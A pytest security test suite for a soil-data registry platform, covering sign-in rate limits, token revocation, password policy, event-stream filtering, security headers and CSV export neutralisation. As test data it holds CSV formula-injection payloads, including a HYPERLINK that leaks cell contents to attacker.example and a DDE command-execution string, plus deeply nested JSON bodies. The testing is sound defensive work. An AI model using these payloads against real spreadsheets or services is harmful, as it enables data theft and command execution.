"""Security of the platform (issue 12), on SQLite and PostgreSQL, one test (or a small group) per point:
1 no demo account without ``--demo`` and none on a deployment; 2 CSV cells neutralised; 3 one authorisation
path for observations; 4 a rate-limited and audited sign-in shared by every worker; 5 tokens that die with
the account's rights; 6 the event stream filtered by reader; 7 toolkit usage counted once per client and day
(tests/platform/test_toolkit.py); 8 a JSON nesting limit; 9 security headers and an offline /docs
(tests/browser/test_api_docs.py); 10 a password policy that says why it refuses; 11 a row cap on bulk
ingest with reads still fast."""

import csv
import datetime
import io
import json
import re
import socket
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from importlib.resources import files

import httpx
import pytest
import uvicorn
from fastapi.testclient import TestClient
from sqlalchemy import func, insert, select, update
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from permille.api.app import create_app
from permille.api.boundary import MAX_JSON_DEPTH
from permille.api.routes import events as events_route
from permille.api.security import ACCOUNT_LIMIT, ADDRESS_LIMIT
from permille.cli import app as cli
from permille.io import soil_import
from permille.io.csv_safe import neutralise, write_csv
from permille.registry import seed, service
from permille.registry.db import IMMEDIATE, make_engine, session_factory
from permille.registry.deployment import DeploymentRefused
from permille.registry.orm import (
    ApiToken,
    AuditLog,
    Layer,
    LoginAttempt,
    Observation,
    Practice,
    Project,
    Site,
    User,
    utcnow,
)

from .conftest import PASSWORD

LIVE_S = 60.0
"""How long one step against the live server may take: a bound that holds on a machine kept busy by
other processes (not a speed claim; the limits under test are set apart)."""

STRONG = "sturdy plum lantern voyage"


def _sign_in(client: TestClient, email: str, password: str):
    return client.post("/api/auth/token", json={"email": email, "password": password})


def _bearer(response) -> dict[str, str]:
    assert response.status_code == 200, response.text
    return {"Authorization": f"Bearer {response.json()['access_token']}"}


# --- 1. demo data only with --demo; a deployment refuses demo accounts ---------------------------------------


def test_without_demo_the_seed_loads_the_catalogues_and_no_account(engine, session, monkeypatch):
    monkeypatch.delenv("PERMILLE_ENV", raising=False)
    create_app(engine)  # also on PostgreSQL, a deployment: nothing demo to refuse
    assert session.scalar(select(func.count()).select_from(User)) == 0
    assert session.scalar(select(func.count()).select_from(Project)) == 0
    assert session.scalar(select(func.count()).select_from(Practice).where(Practice.name.like("Demo%"))) == 0
    assert session.scalar(select(func.count()).select_from(Practice)) > 0  # the real catalogue


def test_a_deployment_refuses_demo_accounts_even_renamed_until_deactivated(
    engine, session, db_url, monkeypatch
):
    monkeypatch.setenv("PERMILLE_ENV", "development")
    create_app(engine, demo=True)
    secretariat = session.scalar(select(User).where(User.email == "demo.secretariat@example.org"))
    service.update(session, "users", secretariat.id, {"email": "renamed@example.org"}, service.SYSTEM)
    users = session.scalar(select(func.count()).select_from(User))
    seed.seed(session, demo=True)  # a restart with --demo
    assert session.scalar(select(func.count()).select_from(User)) == users  # not created again

    monkeypatch.setenv("PERMILLE_ENV", "production")
    with pytest.raises(DeploymentRefused, match="--demo"):
        create_app(engine, demo=True)
    with pytest.raises(DeploymentRefused, match="renamed@example.org"):
        create_app(engine)
    monkeypatch.delenv("PERMILLE_ENV")
    if engine.dialect.name == "postgresql":  # a PostgreSQL registry is a deployment unless said otherwise
        with pytest.raises(DeploymentRefused, match="active demo account"):
            create_app(engine)
    else:
        create_app(engine)

    runner, env = CliRunner(), {"PERMILLE_DATABASE_URL": db_url, "PERMILLE_ENV": "production"}
    result = runner.invoke(cli, ["users", "deactivate-demo"], env=env)
    assert result.exit_code == 0 and "renamed@example.org" in result.output, result.output
    weak = runner.invoke(
        cli, ["users", "create-admin", "--email", "admin@example.org", "--password-stdin"],
        input="password1234\n", env=env,
    )  # fmt: skip
    assert weak.exit_code == 2 and "common password" in weak.output, weak.output
    made = runner.invoke(
        cli, ["users", "create-admin", "--email", "admin@example.org", "--password-stdin"],
        input=f"{STRONG}\n", env=env,
    )  # fmt: skip
    assert made.exit_code == 0, made.output
    monkeypatch.setenv("PERMILLE_ENV", "production")
    with TestClient(create_app(engine)) as client:  # starts now
        headers = _bearer(_sign_in(client, "admin@example.org", STRONG))
        assert client.get("/api/me", headers=headers).json()["role"] == "secretariat"
        demo_password = dict((e, p) for e, _, p in seed.DEMO_ACCOUNTS)["demo.member@example.org"]
        assert _sign_in(client, "demo.member@example.org", demo_password).status_code == 401


# --- 4. sign-in rate limit by account and by address, shared by workers, audited ----------------------------


def test_failed_sign_ins_lock_the_account_in_every_worker_and_are_audited(db_url, auth, session):
    user = auth.user("stc")
    engines = [make_engine(db_url), make_engine(db_url)]  # two workers: two apps, two connection pools
    try:
        with (
            TestClient(create_app(engines[0], seed=False)) as a,
            TestClient(create_app(engines[1], seed=False)) as b,
        ):
            for n in range(ACCOUNT_LIMIT.failures):
                assert _sign_in((a, b)[n % 2], user.email, "wrong password!").status_code == 401
            refused = _sign_in(a, user.email.upper(), PASSWORD)  # the right password, too late
            assert refused.status_code == 429, refused.text
            assert 0 < int(refused.headers["Retry-After"]) <= ACCOUNT_LIMIT.window.total_seconds()
            assert _sign_in(b, user.email, PASSWORD).status_code == 429
            assert _sign_in(b, auth.user("member").email, PASSWORD).status_code == 200  # others may sign in

            audited = session.scalars(select(AuditLog).where(AuditLog.kind == "sign-in")).all()
            assert [(r.action, r.record_id, r.after["reason"]) for r in audited] == [
                ("failed", user.id, "wrong password")
            ] * ACCOUNT_LIMIT.failures
            assert all(r.after["email"] == user.email.lower() and "password" not in r.after for r in audited)

            with session_factory(engines[0])() as other:  # the window passes
                other.execute(update(LoginAttempt).values(at=utcnow() - ACCOUNT_LIMIT.window))
                other.commit()
            assert _sign_in(a, user.email, PASSWORD).status_code == 200
    finally:
        for engine in engines:
            engine.dispose()


def test_concurrent_guesses_do_not_get_past_the_account_limit(client, auth):
    email = auth.user("partner").email
    with ThreadPoolExecutor(max_workers=12) as pool:
        statuses = list(pool.map(lambda _: _sign_in(client, email, "wrong password!").status_code, range(12)))
    assert set(statuses) <= {401, 429} and statuses.count(401) <= ACCOUNT_LIMIT.failures, statuses
    assert _sign_in(client, email, PASSWORD).status_code == (
        429 if statuses.count(401) == ACCOUNT_LIMIT.failures else 200
    )


def test_failed_sign_ins_from_one_address_are_limited_across_accounts(client, engine):
    for n in range(ADDRESS_LIMIT.failures):
        assert _sign_in(client, f"nobody{n}@example.org", "some password").status_code == 401
    with engine.begin() as connection:  # five more just now: the address waits 2^5 s (api/security.py)
        rows = [{"at": utcnow(), "email": f"more{n}@example.org", "address": "testclient"} for n in range(5)]
        connection.execute(insert(LoginAttempt), rows)
    refused = _sign_in(client, "someone.else@example.org", "some password")
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0
    assert "address" in refused.json()["error"]["message"]
    elsewhere = TestClient(client.app, client=("203.0.113.7", 50000))
    assert _sign_in(elsewhere, "someone.else@example.org", "some password").status_code == 401


# --- 5. tokens die with the account's rights; log out everywhere; expired tokens deleted --------------------


def test_tokens_are_revoked_when_password_role_organisation_or_activity_change(client, auth):
    admin, member = auth("secretariat"), auth.user("member")
    url = f"/api/users/{member.id}"

    def alive(headers) -> bool:
        return client.get("/api/me", headers=headers).status_code == 200

    headers = auth.sign_in_again("member")
    assert client.patch(url, json={"name": "Renamed member"}, headers=admin).status_code == 200
    assert alive(headers)  # a change that grants nothing new keeps the session
    for change in (
        {"password": STRONG},
        {"role": "partner"},
        {"organisation_id": auth.organisation_id("partner")},
        {"active": False},
    ):
        headers = auth.sign_in_again("member")
        assert alive(headers)
        response = client.patch(url, json=change, headers=admin)
        assert response.status_code == 200, response.text
        assert not alive(headers), change
        if change == {"active": False}:  # reactivating does not revive the token
            assert client.patch(url, json={"active": True}, headers=admin).status_code == 200
            assert not alive(headers)


def test_log_out_everywhere_and_expired_tokens_are_deleted(client, auth, session):
    member = auth.user("member")
    first = auth("member")
    second = _bearer(_sign_in(client, member.email, PASSWORD))
    assert client.delete("/api/auth/tokens", headers=first).status_code == 204
    for headers in (first, second):
        assert client.get("/api/me", headers=headers).status_code == 401

    stc = auth.user("stc")
    session.add(ApiToken(user_id=stc.id, token_hash="0" * 64, expires_at=utcnow() - datetime.timedelta(1)))
    session.commit()
    _bearer(_sign_in(client, member.email, PASSWORD))  # anyone's sign-in clears the expired tokens
    session.expire_all()
    assert session.scalar(select(ApiToken).where(ApiToken.token_hash == "0" * 64)) is None


# --- 10. password policy ------------------------------------------------------------------------------------


def test_common_and_repetitive_passwords_are_refused_with_the_reason(client, auth):
    admin = auth("secretariat")
    body = {"email": "new.user@example.org", "role": "stc"}
    for password, why in (
        ("aaaaaaaaaaaa", "Repeats"),
        ("password1234", "common password"),
        ("qwertyuiop12", "commonly used password"),
        ("abcabcabcabc", "Repeats"),
    ):
        response = client.post("/api/users", json=body | {"password": password}, headers=admin)
        assert response.status_code == 422, (password, response.text)
        details = response.json()["error"]["details"]
        assert any(d["loc"][-1] == "password" and why in d["message"] for d in details), details
        assert password not in response.text
    assert (
        client.post("/api/users", json=body | {"password": "eleven char"}, headers=admin).status_code == 422
    )
    created = client.post("/api/users", json=body | {"password": STRONG}, headers=admin)
    assert created.status_code == 201, created.text
    url = f"/api/users/{created.json()['id']}"
    assert client.patch(url, json={"password": "password1234"}, headers=admin).status_code == 422
    assert _sign_in(client, body["email"], STRONG).status_code == 200


SITE = {"name": "Trial", "country_iso3": "SEN", "lon": -16.0, "lat": 14.0, "land_use": "cropland"}
FORMULAS = ('=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)")


def error_of(response) -> dict:
    body = response.json()
    assert set(body) == {"error"} and set(body["error"]) == {"code", "message", "details"}, body
    return body["error"]


def observation(site_id: int) -> dict:
    return {"site_id": site_id, "upper_cm": 0, "lower_cm": 30, "property": "soc", "value": 1.2, "unit": "%"}


def ingest_file(rows: list[list]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["site_id", "upper_cm", "lower_cm", "property", "value", "unit"], *rows])
    return buffer.getvalue().encode()


# --- 2. CSV formula injection ------------------------------------------------------------------------------


def test_neutralise_quotes_formula_text_and_keeps_numbers():
    for formula in (*FORMULAS, "-2+3", "\tx", "\rx"):
        assert neutralise(formula) == "'" + formula
    assert neutralise("Hoosfield") == "Hoosfield" and neutralise("") == ""
    assert neutralise(-16.5) == -16.5 and neutralise(-3) == -3  # numbers stay numbers
    written = list(csv.reader(io.StringIO(write_csv([{"a": "=1+1", "b": -0.5, "c": None}]))))
    assert written == [["a", "b", "c"], ["'=1+1", "-0.5", ""]]


def test_every_csv_download_neutralises_formulas(world):
    admin = world.auth("secretariat")
    site = SITE | {"name": FORMULAS[0], "description": FORMULAS[1], "published": True}
    created = world.client.post("/api/sites", json=site, headers=admin)
    assert created.status_code == 201, created.text
    body = observation(created.json()["id"]) | {"method": FORMULAS[2], "published": True}
    assert world.client.post("/api/observations", json=body, headers=admin).status_code == 201

    exported = world.client.get("/api/sites/export.csv", params={"country_iso3": "SEN"})
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    mine = next(r for r in rows if r["id"] == str(created.json()["id"]))
    assert mine["name"] == "'" + FORMULAS[0] and mine["description"] == "'" + FORMULAS[1]
    assert mine["lon"] == "-16.0"  # a number, not text: not quoted

    by_depth = world.client.get(f"/api/monitoring/sites/{created.json()['id']}", params={"format": "csv"})
    assert by_depth.status_code == 200, by_depth.text
    cells = [cell for row in csv.reader(io.StringIO(by_depth.text)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells

    kpis = world.client.get("/api/kpis/export.csv")
    cells = [cell for row in csv.reader(io.StringIO(kpis.text)) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_toolkit_csv_download_neutralises_uploaded_text(world):
    cores = (files("permille") / "data" / "mrv" / "Cumbria_Hedgerows.csv").read_text(encoding="utf-8")
    cores = cores.replace("Cumbria,control,", 'Cumbria,"=HYPERLINK(""http://attacker.example"")",')
    answer = world.client.post(
        "/api/toolkit/stocks?format=csv",
        files={"file": ("cores.csv", cores.encode(), "text/csv")},
        data={"mapping": json.dumps(soil_import.CUMBRIA_HEDGEROWS)},
    )
    assert answer.status_code == 200, answer.text
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert '\'=HYPERLINK("http://attacker.example")' in cells
    assert not [c for c in cells if c.startswith("=")]


# --- 3. one authorisation path for observations ------------------------------------------------------------


def test_a_hidden_site_answers_exactly_like_a_missing_one(world):
    hidden = world.client.post("/api/sites", json=SITE | {"name": "Hidden"}, headers=world.auth("partner"))
    assert hidden.status_code == 201 and hidden.json()["published"] is False
    hidden_id, missing_id = hidden.json()["id"], 2_000_000_000
    member = world.auth("member")

    def post(site_id):
        return world.client.post("/api/observations", json=observation(site_id), headers=member)

    def ingest(site_id):
        content = ingest_file([[site_id, 0, 30, "soc", 1.2, "%"]])
        return world.client.post(
            "/api/observations/ingest", files={"file": ("s.csv", content)}, headers=member
        )

    for send in (post, ingest):
        refused, missing = send(hidden_id), send(missing_id)
        assert refused.status_code == missing.status_code == 422, refused.text
        assert refused.text == missing.text.replace(str(missing_id), str(hidden_id))
        assert "SEN" not in refused.text
    with world.session() as session:
        stored = session.scalar(
            select(func.count()).select_from(Observation).join(Layer).where(Layer.site_id == hidden_id)
        )
    assert stored == 0
    own = world.client.post("/api/observations", json=observation(hidden_id), headers=world.auth("partner"))
    assert own.status_code == 201, own.text  # the owner may


# --- 6. the event stream announces only what the reader may read -------------------------------------------


@pytest.fixture
def live_server(engine, monkeypatch):
    monkeypatch.setattr(events_route, "HEARTBEAT_S", 0.5)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    app = create_app(engine, seed=False)
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="warning", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + LIVE_S
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    assert server.started, "uvicorn did not start"
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)


def _events_until(reader, stop_id: int) -> list[dict]:
    """The change events of a stream up to the one of record ``stop_id``."""
    seen, deadline = [], time.monotonic() + LIVE_S
    for line in reader:
        if line.startswith("data:"):
            seen.append(json.loads(line.removeprefix("data:")))
            if seen[-1]["id"] == stop_id:
                return seen
        assert time.monotonic() < deadline, f"no event of record {stop_id}; seen {seen}"
    return seen


def test_the_event_stream_announces_only_what_its_reader_may_read(live_server, auth):
    partner, member, admin = auth("partner"), auth("member"), auth("secretariat")
    with httpx.Client(base_url=live_server, timeout=LIVE_S) as client:
        streams = {
            "public": client.stream("GET", "/api/events"),
            "partner": client.stream("GET", "/api/events", headers=partner),
            "member": client.stream("GET", "/api/events", headers=member),
        }
        readers = {}
        for name, stream in streams.items():
            response = stream.__enter__()
            readers[name] = response.iter_lines()
            assert next(readers[name]).startswith("retry:")  # open and subscribed
        try:
            hidden = client.post("/api/sites", json=SITE | {"name": "Hidden"}, headers=partner).json()
            content = ingest_file([[hidden["id"], 0, 30, "soc", 1.2, "%"]])
            ingested = client.post(
                "/api/observations/ingest", files={"file": ("s.csv", content)}, headers=partner
            )
            assert ingested.status_code == 201, ingested.text
            shown = client.post("/api/sites", json=SITE | {"published": True}, headers=admin).json()
            seen = {name: _events_until(reader, shown["id"]) for name, reader in readers.items()}
        finally:
            for stream in streams.values():
                stream.__exit__(None, None, None)
    redacted = [  # the public aggregates (KPIs) count every record: only the kind is told
        {"kind": "sites", "action": "change", "id": None, "country_iso3": None},
        {"kind": "observations", "action": "change", "id": None, "country_iso3": None},
    ]
    for name in ("public", "member"):
        assert seen[name][:2] == redacted, name
        assert [(e["kind"], e["action"], e["id"]) for e in seen[name][2:]] == [
            ("sites", "create", shown["id"])
        ]
    assert [(e["kind"], e["action"], e["id"]) for e in seen["partner"]] == [
        ("sites", "create", hidden["id"]),
        ("observations", "ingest", None),
        ("sites", "create", shown["id"]),
    ]
    assert seen["partner"][0]["published"] is False and seen["partner"][1]["country_iso3"] == "SEN"
    bad = httpx.get(f"{live_server}/api/events", headers={"Authorization": "Bearer not-a-token"})
    assert bad.status_code == 401


# --- 8. JSON nesting depth ---------------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [MAX_JSON_DEPTH + 1, 600, 100_000])
def test_a_deeply_nested_body_is_refused_with_422(world, depth):
    body = ('{"name": "Deep", "description": ' + "[" * depth + "]" * depth + "}").encode()
    response = world.client.post(
        "/api/sites", content=body, headers=world.auth("member") | {"Content-Type": "application/json"}
    )
    assert response.status_code == 422, response.text
    message = error_of(response)["message"]
    assert f"nested {depth + 1} levels" in message and f"at most {MAX_JSON_DEPTH}" in message


def test_nesting_within_the_limit_and_brackets_in_text_pass(world):
    deep_text = "[" * 100  # brackets inside a string are text, not nesting
    site = SITE | {"name": deep_text}
    response = world.client.post("/api/sites", json=site, headers=world.auth("member"))
    assert response.status_code == 201, response.text
    nested = {"description": "x", "extra": [[[[1]]]]}  # 5 levels: past the depth check, refused as unknown
    response = world.client.post("/api/sites", json=SITE | nested, headers=world.auth("member"))
    assert response.status_code == 422 and "nested" not in error_of(response)["message"]


# --- 9. security headers, CSP, offline /docs ---------------------------------------------------------------

STATIC = files("permille.web") / "static"


def test_every_answer_carries_the_security_headers(world):
    for path in ("/", "/api/sites", "/api/no-such-thing", "/docs", "/openapi.json"):
        headers = world.client.get(path).headers
        csp = {d.split()[0]: d.split()[1:] for d in headers["content-security-policy"].split("; ")}
        assert csp["script-src"] == ["'self'"] and csp["frame-ancestors"] == ["'none'"], path
        assert csp["object-src"] == ["'none'"] and csp["default-src"] == ["'self'"]
        assert headers["x-content-type-options"] == "nosniff" and headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "no-referrer"
        assert "strict-transport-security" not in headers  # plain HTTP
    spoofed = world.client.get("/", headers={"X-Forwarded-Proto": "https"})  # not from a trusted proxy
    assert "strict-transport-security" not in spoofed.headers
    over_tls = world.client.get("https://testserver/api/sites")
    assert over_tls.headers["strict-transport-security"].startswith("max-age=")


def test_pages_have_no_inline_script_and_docs_are_served_from_the_package(world):
    for page in (STATIC / "index.html", world.client.get("/docs")):
        html = page.read_text(encoding="utf-8") if hasattr(page, "read_text") else page.text
        scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", html, re.DOTALL)
        assert scripts and all('src="' in attributes and not body.strip() for attributes, body in scripts)
        assert not re.search(r"\son[a-z]+\s*=", html), "inline event handlers"
        assert not re.search(r"(src|href)=\"(https?:)?//", html), "assets from elsewhere"
    docs = world.client.get("/docs").text
    for asset in re.findall(r'(?:src|href)="(/[^"]+)"', docs):
        assert world.client.get(asset).status_code == 200, asset
    assert world.client.get("/redoc").status_code == 404  # not served (would load from a CDN)


# --- 11. bulk ingest: a row cap, and reads stay fast ---------------------------------------------------------


def test_bulk_ingest_is_capped_and_documented(world):
    member = world.auth("member")
    site = world.client.post("/api/sites", json=SITE, headers=member).json()
    cap = service.MAX_INGEST_ROWS
    assert cap == 50_000
    content = ingest_file([[site["id"], 0, 30, "soc", 1.2, "%"]] * (cap + 1))
    started = time.monotonic()
    response = world.client.post(
        "/api/observations/ingest", files={"file": ("s.csv", content)}, headers=member
    )
    assert response.status_code == 413, response.text[:300]
    assert "50,000 rows" in error_of(response)["message"]
    assert time.monotonic() - started < 10  # refused after reading, before validating or storing
    with world.session() as session:
        count = select(func.count()).select_from(Observation).join(Layer).where(Layer.site_id == site["id"])
        assert session.scalar(count) == 0
    schema = world.client.get("/openapi.json").json()
    assert "50,000 rows" in schema["paths"]["/api/observations/ingest"]["post"]["description"]


def test_reads_are_not_blocked_while_an_ingest_holds_the_write_lock(world):
    with world.engine.connect() as connection, Session(connection.execution_options(**IMMEDIATE)) as writer:
        writer.add(Site(name="Held", country_iso3="SEN", lon=0.0, lat=0.0, land_use="cropland"))
        writer.flush()  # BEGIN (IMMEDIATE on SQLite) and a row written: the write lock is held
        started = time.monotonic()
        listed = world.client.get("/api/sites")
        elapsed = time.monotonic() - started
        writer.rollback()
    assert listed.status_code == 200
    assert elapsed < 2.0, f"a read waited {elapsed:.1f} s for the writer"
